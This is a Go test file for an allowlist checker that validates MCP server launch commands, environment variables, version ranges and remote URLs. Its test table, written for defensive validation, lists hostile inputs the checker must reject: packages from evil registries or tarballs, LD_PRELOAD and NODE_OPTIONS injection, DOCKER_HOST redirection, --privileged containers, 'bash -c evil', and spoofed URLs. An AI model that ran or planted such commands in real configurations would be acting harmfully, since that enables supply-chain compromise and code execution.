package registry

import (
	"encoding/json"
	"strings"
	"testing"
)

const approvedList = `{"list": "acme", "version": 1, "apis": ["https://api.example.com/openapi.json"], "servers": [
	{"server": {"name": "a/files", "packages": [{"registryType": "npm", "identifier": "@acme/files", "version": "1.2.0",
		"packageArguments": [{"type": "named", "name": "--mode", "value": "read"}, {"type": "named", "name": "--level",
			"choices": ["info", "debug"]}, {"type": "named", "name": "-v", "format": "boolean"},
			{"type": "positional", "valueHint": "folder", "isRepeated": true}],
		"environmentVariables": [{"name": "FILES_TOKEN", "isSecret": true}, {"name": "FILES_REGION", "value": "eu"}]}]},
	 "versions": ">=1.2.0 <2.0.0 || 3.1.0-beta.1"},
	{"server": {"name": "a/py", "packages": [{"registryType": "pypi", "identifier": "Acme_Py", "version": "0.4.1"}]}},
	{"server": {"name": "a/any", "packages": [{"registryType": "npm", "identifier": "any-mcp", "version": "1.0.0"}]},
	 "versions": "*", "arguments": "any"},
	{"server": {"name": "a/box", "packages": [{"registryType": "oci", "identifier": "docker.io/acme/box:2.0.0",
		"runtimeArguments": [{"type": "named", "name": "--mount", "value": "type=bind,src={src},dst=/data",
			"variables": {"src": {"format": "filepath"}}}],
		"environmentVariables": [{"name": "BOX_KEY", "isSecret": true}]}]}},
	{"server": {"name": "a/digest", "packages": [{"registryType": "oci", "identifier":
		"ghcr.io/acme/d@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"}]}},
	{"server": {"name": "a/remote", "remotes": [{"type": "streamable-http", "url": "https://mcp.example.com/mcp"},
		{"type": "sse", "url": "https://{tenant}.example.org/sse/{room}", "variables": {"tenant": {}, "room": {}}},
		{"type": "sse", "url": "https://{zone}.example.net/", "variables": {"zone": {"choices": ["eu", "us"]}}}]}},
	{"server": {"name": "a/own"}, "commands": [["/opt/acme/mcp", "--stdio"]], "environment": ["ACME"]}]}`

// TestCheckRun checks what the list approves: each hostile command differs from an approved one in
// one part.
func TestCheckRun(t *testing.T) {
	d, err := parseDocument([]byte(approvedList))
	if err != nil {
		t.Fatalf("parseDocument: %v", err)
	}
	list, err := d.decodeList()
	if err != nil {
		t.Fatalf("decodeList: %v", err)
	}
	const digest = "@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	for _, c := range []struct {
		run, env string
		want     string // the error; empty: approved
	}{
		{"npx -y @acme/files@1.2.0 --mode=read", "FILES_REGION=eu", ""},
		{"npx @acme/files@1.9.9 --mode read --level debug -v /a /b", "FILES_REGION=eu FILES_TOKEN=t", ""},
		{"npx -y @acme/files@3.1.0-beta.1 --mode=read", "FILES_REGION=eu", ""},
		{"npx -y @acme/files@2.0.0 --mode=read", "FILES_REGION=eu", "not version 2.0.0"},
		{"npx -y @acme/files@1.5.0-rc.1 --mode=read", "FILES_REGION=eu", "not version 1.5.0-rc.1"},
		{"npx -y @acme/files --mode=read", "FILES_REGION=eu", "a package without a version"},
		{"npx -y @acme/files@latest --mode=read", "FILES_REGION=eu", "not version latest"},
		{"npx -y @acme/files@1.2.0", "FILES_REGION=eu", "an argument of @acme/files is missing"},
		{"npx -y @acme/files@1.2.0 --mode=write", "FILES_REGION=eu", "the argument --mode of @acme/files"},
		{"npx -y @acme/files@1.2.0 --mode=read --mode=write", "FILES_REGION=eu", "the argument --mode"},
		{"npx -y @acme/files@1.2.0 --mode=read --level=all", "FILES_REGION=eu", "the argument --level"},
		{"npx -y @acme/files@1.2.0 --mode=read --eval=x", "FILES_REGION=eu", "the argument --eval"},
		{"npx -y @acme/files@1.2.0 --mode=read", "", "FILES_REGION is missing"},
		{"npx -y @acme/files@1.2.0 --mode=read", "FILES_REGION=us", "FILES_REGION has another value"},
		{"npx -y @acme/files@1.2.0 --mode=read", "FILES_REGION=eu NODE_OPTIONS=--require=/x",
			"NODE_OPTIONS is not approved"},
		{"npx -y --registry=https://evil.example @acme/files@1.2.0 --mode=read", "FILES_REGION=eu",
			"the argument --registry of npx"},
		{"npx -y -p evil @acme/files@1.2.0 --mode=read", "FILES_REGION=eu", "no server on the list"},
		{"npx -y @acme/filez@1.2.0 --mode=read", "FILES_REGION=eu", "no server on the list"},
		{"/tmp/npx -y @acme/files@1.2.0 --mode=read", "FILES_REGION=eu", "no server on the list"},
		{"npx -y any-mcp", "", ""},
		{"npx -y any-mcp@latest --what ever", "", ""},
		{"npx -y any-mcp@npm:evil", "", "not version npm:evil"},
		{"npx -y any-mcp@https://evil.example/x.tgz", "", "not version https://evil"},
		{"npx -y any-mcp@file:../x", "", "not version file"},
		{"npx -y any-mcp@user/repository", "", "not version user/repository"},
		{"uvx acme-py==0.4.1", "", ""},
		{"uvx Acme.Py@0.4.1", "", ""},
		{"uvx acme-py==0.4.2", "", "not version 0.4.2"},
		{"uvx acme-py@git+https://evil", "", "not version git"},
		{"uvx --from evil acme-py==0.4.1", "", "no server on the list"},
		{"uvx --index-url=https://evil acme-py==0.4.1", "", "the argument --index-url"},
		{"uvx acme-py[x]==0.4.1", "", "no server on the list"},
		{"docker run -i --rm -e BOX_KEY --mount type=bind,src=/a,dst=/data acme/box:2.0.0", "BOX_KEY=k", ""},
		{"docker run -i --mount=type=bind,src=/a,dst=/data -e BOX_KEY=k docker.io/acme/box:2.0.0", "", ""},
		{"docker run -i --rm acme/box:2.0.0", "", "is missing"},
		{"docker run -i --mount type=bind,src=/,dst=/x,dst=/data acme/box:2.0.0", "", "no server on the list"},
		{"docker run -i --privileged --mount=type=bind,src=/a,dst=/data acme/box:2.0.0", "", "--privileged"},
		{"docker run -i --mount=type=bind,src=/a,dst=/data acme/box:2.0.1", "", "not version 2.0.1"},
		{"docker run -i --mount=type=bind,src=/a,dst=/data acme/box", "", "without a version"},
		{"docker run -i --mount=type=bind,src=/a,dst=/data evil.example/acme/box:2.0.0", "", "no server on the list"},
		{"docker run -i -e LD_PRELOAD=/x --mount=type=bind,src=/a,dst=/data acme/box:2.0.0", "",
			"no server on the list"},
		{"docker run -i --mount=type=bind,src=/a,dst=/data acme/box:2.0.0", "DOCKER_HOST=tcp://evil",
			"DOCKER_HOST is not"},
		{"docker run ghcr.io/acme/d" + digest, "", ""},
		{"docker run ghcr.io/acme/d:1.0" + digest, "", ""},
		{"docker run ghcr.io/acme/d:1.0", "", "not version 1.0"},
		{"docker exec acme/box:2.0.0", "", "no server on the list"},
		{"/opt/acme/mcp --stdio", "ACME=1", ""},
		{"/opt/acme/mcp --stdio", "LD_PRELOAD=/x", "LD_PRELOAD is not approved"},
		{"/opt/acme/mcp --stdio --more", "", "no server on the list"},
		{"/opt/acme/mcp", "", "no server on the list"},
		{"bash -c evil", "", "no server on the list"},
		{"https://mcp.example.com/mcp", "", ""},
		{"https://MCP.example.com:443/mcp", "", ""},
		{"https://mcp.example.com/mcp/", "", "no server"},
		{"https://mcp.example.com/mcp?x=1", "", "no server"},
		{"http://mcp.example.com/mcp", "", "no server"},
		{"https://mcp.example.com.evil.net/mcp", "", "no server"},
		{"https://mcp.example.com@evil.net/mcp", "", "no server"},
		{"https://t1.example.org/sse/r_1", "", ""},
		{"https://evil.net/x.example.org/sse/r", "", "no server"},
		{"https://a.b.example.org/sse/r", "", "no server"},
		{"https://t1.example.org/sse/..", "", "no server"},
		{"https://t1.example.org/sse/r/s", "", "no server"},
		{"https://eu.example.net", "", ""},
		{"https://asia.example.net/", "", "no server"},
	} {
		r := Run{Env: map[string]string{}}
		if words := strings.Fields(c.run); strings.HasPrefix(c.run, "http") {
			r.URL = c.run
		} else {
			r.Command, r.Args = words[0], words[1:]
		}
		for _, pair := range strings.Fields(c.env) {
			name, value, _ := strings.Cut(pair, "=")
			r.Env[name] = value
		}
		err := list.CheckRun(r)
		if c.want == "" && err != nil || c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)) {
			t.Errorf("%s (%s): got %v, want %q", c.run, c.env, err, c.want)
		}
	}
	for _, c := range []struct {
		addresses []string
		approved  bool
	}{
		{[]string{"https://api.example.com/openapi.json"}, true}, {nil, false},
		{[]string{"https://api.example.com/openapi.json", "https://evil.example"}, false},
	} {
		if err := list.CheckAPI(c.addresses); (err == nil) != c.approved {
			t.Errorf("CheckAPI(%q): got %v", c.addresses, err)
		}
	}
	own := []string{"https://api.example.com/openapi.json"}
	for address, approved := range map[string]bool{
		"https://api.example.com/token": true, "https://API.example.com:443": true, "https://evil.example/token": false,
		"http://api.example.com/token": false, "https://api.example.com:8443/token": false,
		"https://api.example.com@evil.example/": false, "https://api.example.com.evil.example/": false, "/token": false,
	} {
		if err := list.CheckSignIn([]string{own[0], address}, own); (err == nil) != approved {
			t.Errorf("CheckSignIn(%q): got %v", address, err)
		}
	}
	if err := list.CheckSignIn(own, nil); err != nil { // a document in a file
		t.Errorf("CheckSignIn of an approved address: %v", err)
	}
	list.Local = true
	if err := list.CheckSignIn([]string{"https://evil.example/token"}, nil); err == nil {
		t.Error("CheckSignIn of an upstream without an address: got nil, want an error")
	}
	if err := list.CheckAPI(nil); err != nil {
		t.Errorf("a folder: %v", err)
	}
}

func TestVersions(t *testing.T) {
	for _, c := range []struct {
		versions, in, out string
	}{
		{"^1.2.3", "1.2.3 1.9.0", "1.2.2 2.0.0 2.0.0-rc.1 1.3.0-rc.1 x"},
		{"^0.2.3", "0.2.9", "0.3.0 0.2.2"},
		{"^0.0.3", "0.0.3", "0.0.4"},
		{"~1.2.3", "1.2.9", "1.3.0"},
		{">1.0.0 <=1.5.0", "1.5.0 1.0.1", "1.0.0 1.5.1"},
		{"=1.0.0 || 2.0.0", "1.0.0 2.0.0", "1.0.1"},
		{"*", "1.0.0 anything", ""},
	} {
		r, err := parseRange(c.versions)
		if err != nil {
			t.Errorf("%s: %v", c.versions, err)
			continue
		}
		for _, v := range strings.Fields(c.in) {
			if !r.hasVersion(v) {
				t.Errorf("%s does not have %s", c.versions, v)
			}
		}
		for _, v := range strings.Fields(c.out) {
			if r.hasVersion(v) {
				t.Errorf("%s has %s", c.versions, v)
			}
		}
	}
	for _, bad := range []string{"", "latest", "1.x", ">>1.0.0", "1.0.0 ||", "^", "!1.0.0"} {
		if _, err := parseRange(bad); err == nil {
			t.Errorf("%q is a range, want an error", bad)
		}
	}
}

// FuzzList checks that a list never approves what its own servers would not be configured as, and
// that nothing panics.
func FuzzList(f *testing.F) {
	f.Add(approvedList, "npx", "-y @acme/files@1.2.0 --mode=read", "https://t1.example.org/sse/r")
	f.Fuzz(func(t *testing.T, text, command, args, address string) {
		if !json.Valid([]byte(text)) || len(text) > 1<<16 {
			return
		}
		d, err := parseDocument([]byte(text))
		if err != nil {
			return
		}
		list, err := d.decodeList()
		if err != nil {
			return
		}
		_ = list.CheckRun(Run{URL: address})
		_ = list.CheckRun(Run{Command: command, Args: strings.Fields(args)})
		for i := range list.Servers {
			s := &list.Servers[i].Server
			if def, err := s.ConfigureServer(Choice{Trusted: true}); err == nil && def.URL == "" && len(def.Env) == 0 {
				if def.Command != "npx" && def.Command != "uvx" && def.Command != "docker" && def.Command != "podman" {
					t.Errorf("%s runs %s", s.Name, def.Command)
				}
			}
		}
	})
}
